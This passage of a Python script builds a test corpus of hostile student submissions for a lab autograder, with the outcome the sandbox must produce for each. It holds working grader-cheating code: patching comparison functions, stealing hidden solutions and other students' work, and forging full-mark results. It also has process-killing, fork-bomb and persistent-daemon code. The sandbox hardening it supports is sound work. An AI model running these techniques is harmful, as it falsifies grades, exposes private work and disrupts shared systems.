"""Generate the grader's attack and malformed corpora for Lab 1 (``01_gradient_descent``).

    python tests/corpus/make_corpus.py     # rewrites attacks/, malformed/ and README.md next to this file

The output is deterministic (same inputs, same bytes). Every attack is the generated STUDENT STUB
(``labs/01_gradient_descent.ipynb``) plus attack code, so the honest empty answer it is compared with scores 0; its
first code cell starts with a comment saying what it tries. Malformed files are built from the solution notebook
(``solutions/notebooks/01_gradient_descent.ipynb``) unless they are raw bytes.

The tables ``ATTACKS`` and ``MALFORMED`` are also the expectations: ``tests/test_corpus.py`` imports this file and
asserts, for every file, the outcome written here.
"""

import copy
import gzip
import json
import re
import textwrap
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
LAB = "01_gradient_descent"
STUB = ROOT / "labs" / f"{LAB}.ipynb"
SOLUTION = ROOT / "solutions" / "notebooks" / f"{LAB}.ipynb"
ATTACK_DIR = HERE / "attacks"
MALFORMED_DIR = HERE / "malformed"
README = HERE / "README.md"

MARKER = "dlcv-corpus-marker"  # every file, process name or IPC key an attack tries to leave behind carries it
IPC_KEY_BASE = 0x0DC1C000       # SysV IPC keys the IPC attack uses: IPC_KEY_BASE + 0..15
MAX_SCORE = 29

# Graded functions of Lab 1: (name, parameters, call forwarding the parameters).
FUNCTIONS = [
    ("f", "x", "x"),
    ("df", "x", "x"),
    ("f_2d", "v", "v"),
    ("df_2d", "v", "v"),
    ("numerical_derivative", "fn, x, h=1e-5", "fn, x, h=h"),
    ("numerical_gradient", "fn, x, h=1e-5", "fn, x, h=h"),
    ("gradient_descent", "df, x0, lr, eps=1e-6, max_steps=1000", "df, x0, lr, eps=eps, max_steps=max_steps"),
    ("learning_rate_verdicts", "", ""),
    ("chain_rule_derivative", "x", "x"),
    ("nonconvex_grad", "v", "v"),
    ("classify_critical_point", "hessian, tol=1e-8", "hessian, tol=tol"),
]


def every_function(template):
    """Definitions of all graded functions. ``template`` is the body; ``{name}`` is the function's name, ``{call}``
    its parameters forwarded as in its signature, ``{names}`` its parameters as a positional list."""
    defs = []
    for name, params, call in FUNCTIONS:
        names = ", ".join(part.split("=")[0].strip() for part in params.split(",") if part.strip())
        body = template.replace("{name!r}", repr(name)).replace("{name}", name).replace("{call}", call)
        body = textwrap.indent(body.replace("{names}", names), "    ")
        defs.append(f"def {name}({params}):\n{body}")
    return "\n\n\n".join(defs) + "\n"


# A wrong answer of the right shape and type for each graded function (``fill`` for the numbers): what a liar
# returns when it wants the grader to reach the value comparison.
SHAPED = r'''
import numpy as np


def _shaped(name, args, fill=1e9, dtype=float):
    if name == "learning_rate_verdicts":  # every verdict wrong
        return {0.01: "diverges", 0.1: "oscillates", 1.0: "converges", 100.0: "converges", 1000.0: "oscillates"}
    if name == "classify_critical_point":
        return "degenerate"
    if name == "gradient_descent":
        df, x0, lr, eps, max_steps = args
        shape = (max_steps + 1,) + np.shape(x0)
    elif name in ("numerical_derivative", "numerical_gradient"):
        shape = np.shape(args[1])
    elif name == "f_2d":
        shape = np.shape(args[0])[:-1]
    else:
        shape = np.shape(args[0])
    return np.full(shape, fill, dtype=dtype)
'''


DELEGATE = every_function("return _copy({name!r})({call})")

# Helpers of the attacks that write to the grader's end of the protocol pipe themselves.
PIPE = r'''
import json
import os
import stat
import struct

import numpy as np


def _grader_pipe():  # the descriptor the worker writes its replies to: the only write-only pipe it holds
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and __import__("fcntl").fcntl(fd, 3) & 3 == os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no pipe")


def _frame(payload):
    return struct.pack(">I", len(payload)) + payload


def _send_and_die(raw):
    os.write(_grader_pipe(), raw)
    os._exit(0)
'''

# --------------------------------------------------------------------------------------------- shared snippets
# Where a submission would look for things to copy: the worker's own command line (its config names every hidden
# folder), the grader's command line, the interpreter's prefix (the instructor's checkout holds the .venv), the
# editable-install finder's mapping, the usual course paths.
FIND_PLACES = r'''
import glob
import json
import os
import sys
import time


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return [part.decode(errors="replace") for part in handle.read().split(b"\0") if part]
    except OSError:
        return []


def _places():
    """Folders worth searching, most promising first."""
    places = []
    for arg in _cmdline("self") + _cmdline(os.getppid()):
        if arg.startswith("{"):
            try:
                places += json.loads(arg).get("hide", []) + [json.loads(arg).get("workdir", "")]
            except ValueError:
                pass
        elif arg.startswith("/"):
            places.append(arg)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            args = _cmdline(pid)
            if any("autograder" in a or "dlcv" in a for a in args):
                places += [a for a in args if a.startswith("/")]
    for path in (sys.prefix, sys.base_prefix, sys.executable, os.getcwd(), os.environ.get("HOME", ""),
                 os.environ.get("PWD", ""), os.environ.get("OLDPWD", "")):
        while path and path != "/":
            places.append(path)
            path = os.path.dirname(path)
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
        try:
            text = open(finder).read()
            places += re.findall(r"'(/[^']+)'", text)
        except OSError:
            pass
    places += ["/work/main", "/work", "/srv", "/home", "/opt", "/root", "/course", "/autograder", "/grading"]
    seen, ordered = set(), []
    for place in places:
        if place and place not in seen:
            seen.add(place)
            ordered.append(place)
    return ordered


def _read(path, notes, limit=2**22):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", errors="replace")
    except OSError as error:
        notes.append(f"{path}: {type(error).__name__}")
        return None
'''.replace("re.findall", "__import__('re').findall")

REFERENCE_MARKS = ("def gradient_descent(", "### BEGIN SOLUTION")


def copying_attack(finder, load_budget=None):
    """Code that runs ``_find(notes)`` once per worker to get reference source, then delegates every function.

    ``_find`` may check ``_time_left()``; with ``load_budget`` it runs while the definitions load (a class body),
    with that many seconds, instead of inside the first 2-second call.
    """
    code = FIND_PLACES + finder + r'''

_FOUND = []
_DEADLINE = [0.0]


def _time_left():
    return _DEADLINE[0] - time.monotonic()


def _prepare(budget):
    if not _FOUND:
        _DEADLINE[0] = time.monotonic() + budget
        notes = []
        try:
            source = _find(notes)
        except Exception as error:  # the attack must report what it saw
            source, notes = None, notes + [f"{type(error).__name__}: {error}"]
        _FOUND.append((source, notes))


def _copy(name):
    _prepare(1.5)
    source, notes = _FOUND[0]
    if source is None:
        raise RuntimeError("nothing to copy: " + "; ".join(str(n) for n in notes[-12:]))
    namespace = {"__name__": "copied"}
    exec(source, namespace)
    return namespace[name]
'''
    if load_budget:
        code += f"\n\nclass _AtLoad:\n    _prepare({load_budget})\n"
    return code + "\n\n" + DELEGATE


# ------------------------------------------------------------------------------------------------ attack table


@dataclass
class Attack:
    """One attack submission and what must happen to it.

    ``phrases``: each must appear in the output of at least one of its tests (results.json says why); an entry
    that is a tuple is satisfied by any one of its strings (where a hardened grader may stop the attack earlier).
    ``forbid``: must appear in none (e.g. a network attack must fail fast, never by timing out).
    ``needs_root``: the attack can only be contained by the root-only protections (namespaces, hidden paths, a
    private user): the test leaves it out of the batch when the suite does not run as root.
    """

    number: int
    name: str
    tries: str
    first: str = ""                 # code after the comment in the new first code cell (definitions run at load)
    last: str = ""                  # a new last code cell (later definitions replace the stub's)
    edit: object = None             # fn(notebook dict) -> None, for metadata attacks
    phrases: tuple = ()
    forbid: tuple = ()
    needs_root: bool = False

    @property
    def student(self):
        return f"atk{self.number:02d}-{self.name}"

    @property
    def filename(self):
        return f"{self.student}_{LAB}.ipynb"


ATTACKS = []


def attack(number, name, tries, **kwargs):
    ATTACKS.append(Attack(number, name, tries, **kwargs))


# ---- monkeypatching the checks -----------------------------------------------------------------------------

attack(1, "patch-allclose", "monkeypatch np.allclose/isclose/array_equal, np.linalg.norm and np.testing at load and "
       "in every call, then return wrong numbers of the right shapes", first=SHAPED + r'''


def _patch_numpy():
    always = lambda *args, **kwargs: True  # noqa: E731
    silent = lambda *args, **kwargs: None  # noqa: E731
    np.allclose = np.isclose = np.array_equal = np.array_equiv = always
    for name in dir(np.testing):
        if name.startswith("assert"):
            setattr(np.testing, name, silent)
    np.linalg.norm = lambda *args, **kwargs: 0.0


class _AtLoad:  # a class body runs when the notebook's definitions are loaded
    _patch_numpy()
''', last=every_function("_patch_numpy()\nreturn _shaped({name!r}, [{names}])"), phrases=("is wrong in",))

attack(2, "patch-ndarray-eq", "rewrite np.ndarray.__eq__/__sub__/__abs__ through the type's dict (gc + ctypes) so "
       "every comparison says equal, then return wrong numbers", first=SHAPED + r'''
import ctypes
import gc


def _curse(cls, name, fn):
    gc.get_referents(cls.__dict__)[0][name] = fn
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(cls))


def _curse_all():
    for cls in (np.ndarray, np.float64, float):
        try:
            _curse(cls, "__eq__", lambda self, other: True)
            _curse(cls, "__ne__", lambda self, other: False)
            _curse(cls, "__sub__", lambda self, other: 0.0 * other)
            _curse(cls, "__abs__", lambda self: 0.0 * self)
        except Exception:
            pass


class _AtLoad:
    _curse_all()
''', last=every_function("_curse_all()\nreturn _shaped({name!r}, [{names}])"), phrases=("is wrong in",))

attack(3, "patch-builtins", "replace builtins (type, isinstance, abs, float, len) so the worker's own encoder "
       "misreads a fake object as a correct float array", first=r'''
import builtins

import numpy as np

class _Fake:
    """Claims to be an ndarray of float64 to anyone asking through the patched builtins."""

    dtype = np.dtype(float)
    shape = (3,)
    ndim = 1

    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)

    def tobytes(self):
        return np.zeros(3).tobytes()


def _lying_type(*args, _type=builtins.type, _isinstance=builtins.isinstance):
    if len(args) == 1 and _isinstance(args[0], _Fake):
        return np.ndarray
    return _type(*args)


def _lying_isinstance(obj, cls, _isinstance=builtins.isinstance):
    return True if _isinstance(obj, _Fake) else _isinstance(obj, cls)


def _patch():  # in the call only: the reply to this call is encoded by the worker under the patched builtins
    builtins.type = _lying_type
    builtins.isinstance = _lying_isinstance
    builtins.abs = lambda value: 0.0
    builtins.len = lambda value: 3
''', last=every_function("_patch()\nreturn _Fake()"),
       phrases=(("the sandbox stopped", "cannot read"),))

attack(4, "patch-sys-modules", "plant fake `solutions`/`autograder` modules in sys.modules and rewrite the worker's "
       "protocol.encode and callbacks in place", first=r'''
import sys
import types

import numpy as np


def _plant():
    fake = types.ModuleType("solutions.gradient_descent")
    fake.__dict__.update({name: (lambda *a, **k: np.zeros(1)) for name in ("f", "df", "gradient_descent")})
    for name in ("solutions", "solutions.gradient_descent", "autograder", "autograder.hidden",
                 "autograder.grade.spec"):
        sys.modules[name] = fake
    for name, module in list(sys.modules.items()):
        if name.endswith("protocol") and hasattr(module, "encode"):
            original = module.encode
            module.encode = lambda value, depth=0, _o=original: _o(np.zeros(3) if value is None else value, depth)
        if name.endswith("callbacks") and hasattr(module, "make"):
            module.make = lambda name, params: (lambda x: 0.0 * np.asarray(x))


class _AtLoad:
    _plant()
''', last=every_function("_plant()\nreturn None"), phrases=("has shape",))

attack(5, "patch-json-replies", "patch json.dumps in the worker so every reply, failures included, leaves as a "
       "success carrying a float array", first=r'''
import base64
import json

import numpy as np

def _forge(obj, *args, _dumps=json.dumps, **kwargs):
    if isinstance(obj, dict) and "ok" in obj and "hello" not in obj:
        data = base64.b64encode(np.ones(4).tobytes()).decode()
        obj = {"ok": True, "value": {"__ndarray__": ["<f8", [4], data]}}
    return _dumps(obj, *args, **kwargs)


class _AtLoad:
    json.dumps = _forge
''', phrases=("has shape",))

# ---- reading what must stay hidden -------------------------------------------------------------------------

attack(6, "import-reference", "import the reference module and the hidden tests (importlib.import_module, find_spec "
       "through the editable-install finder) and delegate to them", needs_root=True, last=copying_attack(r'''
def _find(notes):
    import importlib
    import importlib.util
    for name in ("solutions.gradient_descent", "solutions", "autograder.hidden", "autograder"):
        try:
            module = importlib.import_module(name)
            path = getattr(module, "__file__", None) or list(getattr(module, "__path__", []))[0] + "/gradient_descent.py"
            source = _read(path if path.endswith(".py") else path, notes)
            if source and all(mark in source for mark in ("def gradient_descent(",)):
                return source
        except Exception as error:
            notes.append(f"import {name}: {type(error).__name__}: {error}"[:160])
    spec = importlib.util.find_spec("solutions")
    notes.append(f"find_spec(solutions) -> {getattr(spec, 'origin', None)}")
    return None
'''), phrases=("nothing to copy",))

attack(7, "path-guess", "read the reference module and the hidden spec by guessed absolute and relative paths "
       "(/work/main/solutions, ../solutions, next to sys.prefix, the grader's cwd)", needs_root=True,
       last=copying_attack(r'''
def _find(notes):
    names = ["solutions/gradient_descent.py", "autograder/hidden/01_gradient_descent.py",
             "solutions/notebooks/01_gradient_descent.ipynb", "examples/submissions/alice_01_gradient_descent.ipynb"]
    prefixes = _places() + ["..", "../..", "../../..", "."]
    for prefix in prefixes:
        for name in names:
            path = os.path.join(prefix, name)
            if os.path.exists(path):
                source = _read(path, notes)
                if source and "def gradient_descent(" in source and "NotImplementedError" not in source:
                    if path.endswith(".ipynb"):
                        cells = json.loads(source)["cells"]
                        source = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code"
                                           and "def " in "".join(c["source"]))
                    return source
    notes.append(f"looked in {len(prefixes)} places")
    return None
'''), phrases=("nothing to copy",))

attack(8, "git-history", "recover the reference module from the instructor's git history (loose objects read with "
       "zlib, `git show HEAD:solutions/...`) next to the interpreter", needs_root=True, last=copying_attack(r'''
def _find(notes):
    import subprocess
    import zlib
    roots = [p for p in _places() if os.path.isdir(os.path.join(p, ".git"))]
    notes.append(f"git folders: {roots}")
    for root in roots:
        try:
            shown = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", os.path.join(root, ".git"), "show",
                                    "HEAD:solutions/gradient_descent.py"], capture_output=True, text=True, timeout=5)
            if shown.returncode == 0 and "def gradient_descent(" in shown.stdout:
                return shown.stdout
            notes.append(f"git show: {shown.stderr.strip()[:100]}")
        except Exception as error:
            notes.append(f"git: {type(error).__name__}")
        objects = os.path.join(root, ".git", "objects")
        for folder in sorted(os.listdir(objects)):
            if len(folder) != 2:
                continue
            for name in os.listdir(os.path.join(objects, folder)):
                try:
                    data = zlib.decompress(open(os.path.join(objects, folder, name), "rb").read())
                except (OSError, zlib.error):
                    continue
                body = data.split(b"\0", 1)[-1]
                if data.startswith(b"blob") and b"Lab 1" in body and all(m.encode() in body for m in
                                                                         ("def gradient_descent(", "BEGIN SOLUTION")):
                    return body.decode()
    return None
'''), phrases=("nothing to copy",))

attack(9, "gc-inspect", "search the worker's memory for the reference or the expected values: gc objects, every "
       "loaded module, the call stack's frames and locals (inspect), sys._current_frames", last=copying_attack(r'''
def _find(notes):
    import gc
    import inspect
    for frame_info in inspect.stack():
        for scope in (frame_info.frame.f_locals, frame_info.frame.f_globals):
            for key in ("ref", "expected", "want", "reference", "spec"):
                if key in scope:
                    notes.append(f"frame {frame_info.function} has {key}")
    for frame in sys._current_frames().values():
        notes.append(f"thread frame {frame.f_code.co_name}")
    for module in list(sys.modules.values()):
        name = getattr(module, "__name__", "")
        if name.startswith(("solutions", "autograder")):
            return inspect.getsource(module)
    for obj in gc.get_objects():
        if inspect.isfunction(obj) and obj.__module__ and obj.__module__.startswith(("solutions", "autograder")):
            return inspect.getsource(sys.modules[obj.__module__])
    notes.append(f"{len(gc.get_objects())} objects, modules: " + ",".join(sorted(
        m for m in sys.modules if "." not in m and not m.startswith("_"))[:40]))
    return None
'''), phrases=("nothing to copy",))

attack(10, "proc-snoop", "read the grader through /proc: every process's cmdline and environ, /proc/PID/cwd, "
       "/proc/PID/root, /proc/PID/fd and /proc/PID/mem of the parent", needs_root=True, last=copying_attack(r'''
def _find(notes):
    parent = os.getppid()
    for pid in [str(parent), "1"] + [p for p in os.listdir("/proc") if p.isdigit()][:400]:
        for via in ("cwd", "root/work/main", "root" + sys.prefix.rsplit("/.venv", 1)[0]):
            path = f"/proc/{pid}/{via}/solutions/gradient_descent.py"
            if os.path.exists(path):
                source = _read(path, notes)
                if source:
                    return source
        _read(f"/proc/{pid}/environ", notes, 4096)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.endswith((".py", ".ipynb")):
                    source = _read(f"/proc/{pid}/fd/{fd}", notes)
                    if source and "BEGIN SOLUTION" in source:
                        return source
        except OSError as error:
            notes.append(f"/proc/{pid}/fd: {type(error).__name__}")
    try:
        open(f"/proc/{parent}/mem", "rb").read(1)
    except OSError as error:
        notes.append(f"mem: {type(error).__name__}")
    return None
'''), phrases=("nothing to copy",))

attack(11, "other-students", "find the batch's folders from the worker's and the grader's command lines, read other "
       "students' notebooks (the honest full answer) and results, and run their code", needs_root=True,
       last=copying_attack(r'''
def _find(notes):
    import ast
    for place in _places():
        if not os.path.isdir(place):
            continue
        paths = []
        for folder, dirs, files in os.walk(place):
            if _time_left() < 0 or folder.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            paths += [os.path.join(folder, n) for n in files if n.endswith(".ipynb")]
        for path in sorted(paths)[:300]:
            if "atk" in os.path.basename(path):
                continue
            text = _read(path, notes)
            if not text or "def gradient_descent(" not in text:
                continue
            try:
                cells = json.loads(text)["cells"]
            except (ValueError, KeyError):
                continue
            code = []
            for cell in cells:
                source = "".join(cell.get("source", ""))
                if cell.get("cell_type") == "code":
                    try:
                        tree = ast.parse(source)
                    except SyntaxError:
                        continue
                    code += [ast.get_source_segment(source, node) for node in tree.body
                             if isinstance(node, (ast.FunctionDef, ast.Import, ast.ImportFrom))]
            joined = "\n\n".join(code)
            if "NotImplementedError" not in joined.split("def gradient_descent(")[1].split("def ")[0]:
                return joined
        notes.append(f"{place}: {len(paths)} notebooks")
    return None
''', load_budget=4), phrases=("nothing to copy",))

attack(12, "sys-path-search", "walk every sys.path entry (site-packages included) and importlib.metadata's file "
       "list for a copy of the project (solutions, hidden tests, compiled .pyc)", needs_root=True, last=copying_attack(r'''
def _find(notes):
    import importlib.metadata
    import marshal
    candidates = []
    for entry in sys.path:
        for folder, dirs, files in os.walk(entry):
            if _time_left() < 2:
                dirs[:] = []
                continue
            candidates += [os.path.join(folder, n) for n in files
                           if n.startswith(("gradient_descent", "01_gradient_descent")) or folder.endswith("solutions")]
    try:
        for dist in importlib.metadata.distributions():
            if "dlcv" in (dist.metadata.get("Name") or "").lower():
                candidates += [str(dist.locate_file(f)) for f in (dist.files or []) if "solution" in str(f)]
                notes.append(f"dist {dist.metadata['Name']} files={len(dist.files or [])}")
    except Exception as error:
        notes.append(f"metadata: {type(error).__name__}")
    for path in candidates:
        if path.endswith(".pyc"):
            try:
                code = marshal.loads(open(path, "rb").read()[16:])
                namespace = {}
                exec(code, namespace)
                if "gradient_descent" in namespace:
                    return None if namespace is None else __import__("inspect").getsource(namespace["f"])
            except Exception as error:
                notes.append(f"{path}: {type(error).__name__}")
        else:
            source = _read(path, notes)
            if source and "def gradient_descent(" in source and "NotImplementedError" not in source:
                return source
    notes.append(f"{len(candidates)} candidates")
    return None
''', load_budget=4), phrases=("nothing to copy",))

attack(13, "filesystem-search", "spend 5 s of the load budget walking the whole file system for anything holding the "
       "solution (source, notebooks, results) before the tests start", needs_root=True, first=FIND_PLACES + r'''
import time

_HITS = []


def _walk(budget):
    end = time.monotonic() + budget
    for top in ["/work", "/srv", "/home", "/opt", "/root", "/var", "/etc", "/mnt", "/"]:
        for folder, dirs, files in os.walk(top):
            if folder.startswith(("/proc", "/sys", "/dev")) or time.monotonic() > end:
                dirs[:] = []
                continue
            for name in files:
                if name.endswith((".py", ".ipynb")) and ("gradient_descent" in name or "solution" in name):
                    text = _read(os.path.join(folder, name), [], 2**20) or ""
                    if "def gradient_descent(" in text and "NotImplementedError" not in text:
                        _HITS.append(os.path.join(folder, name))
        if time.monotonic() > end:
            break


class _AtLoad:
    _walk(5.0)
''', last=every_function("raise RuntimeError('nothing to copy: found ' + repr(_HITS[:5]))"),
       phrases=("nothing to copy: found []",))

# ---- leaving early -------------------------------------------------------------------------------------------

attack(14, "sys-exit", "call sys.exit(0) in every graded function (and at load, in a class body)", first=r'''
import sys


class _AtLoad:
    try:
        sys.exit(0)
    finally:
        pass
''', last=every_function("import sys\nsys.exit(0)"), phrases=("raised SystemExit",))

attack(15, "os-exit", "call os._exit(0) in every graded function, so the worker vanishes without a reply",
       last=every_function("import os\nos._exit(0)"), phrases=("the sandbox stopped", "crashed or hung too many"))

attack(16, "base-exceptions", "raise KeyboardInterrupt, GeneratorExit, a BaseException subclass whose __str__ "
       "raises, one with a 10 MB message and one whose class name lookup raises", first=r'''
class _Sneaky(BaseException):
    def __str__(self):
        raise _Sneaky()

    def __repr__(self):
        raise _Sneaky()


class _Meta(type):
    @property
    def __name__(cls):
        raise KeyboardInterrupt("no name for you")


class _Nameless(BaseException, metaclass=_Meta):
    pass


_CALLS = [0]


def _raise():  # one kind per call; the last takes the worker down, and a fresh worker starts the list again
    raisers = [KeyboardInterrupt, GeneratorExit, _Sneaky, lambda: BaseException("x" * 10_000_000),
               lambda: SystemExit(0), _Nameless]
    _CALLS[0] += 1
    raise raisers[(_CALLS[0] - 1) % len(raisers)]()
''', last=every_function("_raise()"), phrases=("raised KeyboardInterrupt", "raised _Sneaky: <unprintable>"))

attack(17, "exit-at-load", "kill the worker while it loads the notebook's definitions (os._exit in a class body), "
       "every time a fresh worker is started", first=r'''
import os


class _AtLoad:
    os._exit(3)
''', phrases=("the sandbox stopped while running your notebook's definitions",))

attack(18, "kill-grader", "signal the grader and everyone else: SIGKILL to the parent, to process group 0, to -1 "
       "(every process it may signal), to every PID in /proc", needs_root=True, last=every_function(r'''import os
import signal
results = []
for target in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(target, signal.SIGKILL)
        results.append(target)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
os.kill(-1, signal.SIGKILL)
raise RuntimeError(f"killed {results}")'''), phrases=("killed []",))

# ---- writing outside the worker ------------------------------------------------------------------------------

WRITE_TARGETS = FIND_PLACES + r'''
MARK = "''' + MARKER + r'''"


def _targets():
    """Files to create (name carries MARK) and existing files to append MARK to or overwrite."""
    create, append = [], []
    places = _places()
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", "/var/lock", "/var/mail", "/work", "/"] + places:
        create.append(os.path.join(folder, MARK + "-write"))
    for place in places:
        for name in ("gradebook.csv", "solutions/gradient_descent.py", "autograder/hidden/01_gradient_descent.py",
                     "autograder/grade/runner.py"):
            append.append(os.path.join(place, name))
        for student in ("honest-full", "honest-partial", "atk19-write-results"):
            append.append(os.path.join(place, student, "''' + LAB + r'''", "results.json"))
    append += glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages"))
    return create, append


def _write_everywhere():
    done, create, append = [], *_targets()
    for path in create:
        try:
            with open(path, "w") as handle:
                handle.write(MARK + "\n")
            done.append(path)
        except OSError:
            pass
    fake = json.dumps({"score": 29, "gradable": True, "tests": [], "note": MARK})
    for path in append:
        try:
            if path.endswith("site-packages"):
                with open(os.path.join(path, "sitecustomize.py"), "a") as handle:
                    handle.write(f"# {MARK}\n")
                done.append(path)
            elif path.endswith("results.json"):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(fake)
                done.append(path)
            elif os.path.exists(path):
                with open(path, "a") as handle:
                    handle.write(f"\n# {MARK}\n")
                done.append(path)
        except OSError:
            pass
    return done
'''

attack(19, "write-results", "write results.json (its own: 29 points; other students'), gradebook.csv, the reference "
       "module, the hidden spec, sitecustomize.py and marker files in every folder it can name", needs_root=True,
       first=WRITE_TARGETS + r'''

class _AtLoad:
    _write_everywhere()
''', last=every_function("raise RuntimeError(f'wrote {_write_everywhere()}')"), phrases=("raised RuntimeError",))

attack(20, "daemon", "double fork + setsid a daemon (ignores SIGTERM/SIGHUP, closes its descriptors, becomes "
       "non-dumpable) that outlives the worker and keeps rewriting results and marker files for a minute",
       needs_root=True, first=WRITE_TARGETS + r'''
import ctypes
import signal
import time


_STARTED = []


def _daemonise():
    if _STARTED:
        return
    _STARTED.append(True)
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    libc = ctypes.CDLL(None)
    libc.prctl(15, b"''' + MARKER[:15] + r'''", 0, 0, 0)   # PR_SET_NAME: the test finds leftovers by name
    libc.prctl(4, 0, 0, 0, 0)                      # PR_SET_DUMPABLE 0: /proc/PID turns root-owned
    os.closerange(0, 1024)
    if os.fork() == 0:  # a second, exec'd daemon that carries the marker in its command line
        os.execv("/bin/sh", ["sh", "-c", "end=$(($(date +%s)+60)); while [ $(date +%s) -lt $end ]; do "
                 "echo x > /run/lock/''' + MARKER + r'''-daemon-sh 2>/dev/null; sleep 0.2; done", "''' + MARKER + r'''"])
    end = time.time() + 60
    while time.time() < end:
        try:
            _write_everywhere()
        except Exception:
            pass
        time.sleep(0.2)
    os._exit(0)
''', last=every_function("_daemonise()\nraise RuntimeError('daemon started')"), phrases=("daemon started",))

# ---- exhausting resources ------------------------------------------------------------------------------------

attack(21, "fork-bomb", "fork until the process limit, every child forking again forever (waiting a little "
       "whenever the process table is full)", needs_root=True, last=every_function(r'''import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)'''), phrases=("did not return within",))

attack(22, "memory-bomb", "allocate 16 GiB at once, touch 64 MiB, then take 1 GiB after 1 GiB until memory runs "
       "out, at load and in every call", first=r'''
import numpy as np


def _eat():
    hog = []
    try:
        hog.append(np.ones(2**31))  # 16 GiB at once
    except MemoryError:
        pass
    hog.append(np.ones(2**23))  # 64 MiB really touched
    while True:
        hog.append(np.empty(2**27))  # 1 GiB more address space each round, until the limit


class _AtLoad:
    try:
        _eat()
    except MemoryError:
        pass
''', last=every_function("_eat()"), phrases=("raised MemoryError",))

attack(23, "huge-returns", "return oversized answers: a 104 MB array (over the 64 MB frame limit), a 40 MB array, a "
       "3-million-element list, a 100000-deep nested list, a dict with a million keys", first=r"""
import numpy as np


def _huge(name):
    if name == "f":
        return np.zeros(13_000_000)
    if name == "df":
        return [0.0] * 3_000_000
    if name == "f_2d":
        nested = []
        for _ in range(100_000):
            nested = [nested]
        return nested
    if name == "df_2d":
        return {float(i): "converges" for i in range(1_000_000)}
    return np.zeros(5_000_000)
""", last=every_function("return _huge({name!r})"),
       phrases=(("has shape", "cannot be sent back", "cannot read"), ("is a list", "cannot read")))

attack(24, "grader-cpu", "make the trusted grader loop: learning_rate_verdicts returns a dict with 200000 float "
       "keys, which the verdict tests scan key by key with np.isclose, outside any student time limit",
       last=r"""
def learning_rate_verdicts():
    verdicts = {1e6 + i: "converges" for i in range(200_000)}
    verdicts.update({0.01: "diverges", 0.1: "diverges", 1.0: "diverges", 100.0: "converges", 1000.0: "converges"})
    return verdicts
""", phrases=(("which is not right", "cannot read"),))

attack(25, "cpu-spin", "spin forever in every call, plus a spinning background thread started at load",
       first=r'''
import threading


def _spin():
    while True:
        pass


class _AtLoad:
    threading.Thread(target=_spin, daemon=True).start()
''', last=every_function("_spin()"), phrases=("did not return within",))

attack(26, "sleep-forever", "sleep forever (time.sleep, select, a blocked pipe read) with SIGTERM/SIGALRM ignored",
       last=every_function(r'''import os, select, signal, time
for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
r, w = os.pipe()
select.select([r], [], [], None)
time.sleep(10**9)'''), phrases=("did not return within",))

attack(27, "sleep-at-load", "sleep for an hour while the notebook's definitions load (a class body), each time a "
       "worker starts", first=r'''
import time


class _AtLoad:
    time.sleep(3600)
''', phrases=("took over",))

attack(28, "stdout-flood", "print gigabytes to stdout and stderr (at load and in every call), then return",
       first=r'''
import os
import sys


def _flood():
    chunk = "x" * 2**20
    for _ in range(4096):
        sys.stdout.write(chunk)
        os.write(2, chunk.encode())
    sys.stdout.flush()


class _AtLoad:
    try:
        _flood()
    except OSError:
        pass
''', last=every_function("_flood()\nreturn None"), phrases=("raised OSError",))

attack(29, "protocol-garbage", "write raw bytes to the grader's pipe, then exit: random bytes, a 4 GB length header, "
       "invalid UTF-8, 200000-deep JSON nesting, JSON that is not an object, a frame cut short", first=PIPE + r"""

def _garbage(name, x=None):
    # one kind per graded function, in the order the hidden tests call them; each kills its worker
    garbage = {
        "f": bytes(range(256)) * 4,
        "df": struct.pack(">I", 2**32 - 1) + b"{}",
        "f_2d": _frame(b"\xff\xfe{not utf-8}"),
        "df_2d": _frame(b"[" * 200_000 + b"]" * 200_000),
        "numerical_derivative": _frame(b"1234"),
    }
    if name == "numerical_derivative" and np.ndim(x) > 0:
        _send_and_die(struct.pack(">I", 1000) + b'{"ok": tr')  # promises 1000 bytes, sends 9
    _send_and_die(garbage.get(name, b"\0\0\0\0"))

""", last=every_function("_garbage({name!r}, *[{names}][1:2])"), forbid=("internal grader error", "course staff"))

attack(30, "protocol-forged-values", "write well-framed but lying replies to the grader's pipe, then exit: arrays "
       "whose shape overflows int64, a 2**70 dimension, object dtype, a function reference, broken base64, "
       "fields of the wrong types", first=PIPE + r"""

def _forge(name, args):
    # one lie per worker: the grader decodes it, the next call finds the worker gone, the one after starts a new
    # worker; the hidden tests call f, f_2d, numerical_derivative, numerical_gradient, then gradient_descent twice
    lies = {
        "f": {"ok": True, "value": {"__ndarray__": ["<f8", [2**32, 2**32], ""]}},      # shape product wraps to 0
        "f_2d": {"ok": True, "value": {"__ndarray__": ["<f8", [0, 2**70], ""]}},       # beyond int64
        "numerical_derivative": {"ok": True, "value": {"__ndarray__": ["|O", [1], "AAAAAAAAAAA="]}},
